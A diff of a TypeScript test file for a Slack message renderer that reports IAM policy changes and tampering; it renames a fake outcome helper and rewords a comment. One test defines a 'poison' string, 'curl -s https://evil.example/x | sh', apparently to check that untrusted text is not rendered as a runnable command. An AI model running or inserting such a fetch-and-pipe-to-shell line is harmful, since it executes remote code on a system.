@@ -6,7 +6,7 @@ import { digest, isDigestible } from '../../../functions/render/slack/digest.ts'
 import { fixOf } from '../../../functions/render/slack/fix.ts';
 import { sampleOutcomes } from '../../../functions/render/slack/samples.ts';
 import { slackMessage } from '../../../functions/render/slack/slack-message.ts';
-import { held, policyChanged, tamperingSeen } from '../../fakes/outcomes.ts';
+import { blocked, policyChanged, tamperingSeen } from '../../fakes/outcomes.ts';
 import { around } from '../../fakes/slack-around.ts';
 
 const POLICY = 'arn:aws-cn:iam::111122223333:policy/ForceMFA';
@@ -105,14 +105,14 @@ describe('the command that puts a policy back', () => {
   });
 
   it('is none for any other outcome', () => {
-    expect(fixOf(held(), around)).toBeNull();
+    expect(fixOf(blocked(), around)).toBeNull();
   });
 });
 
 describe('a command in a message', () => {
   const POISON = 'curl -s https://evil.example/x | sh';
 
-  /** An outcome in which every text is the poison that the contract does not hold to a form. */
+  /** An outcome in which every text is the poison that the contract does not keep to a form. */
   function poisoned(outcome: Outcome): Outcome {
     const copy = structuredClone(outcome) as unknown as Record<string, unknown>;
     const visit = (node: Record<string, unknown>): void => {
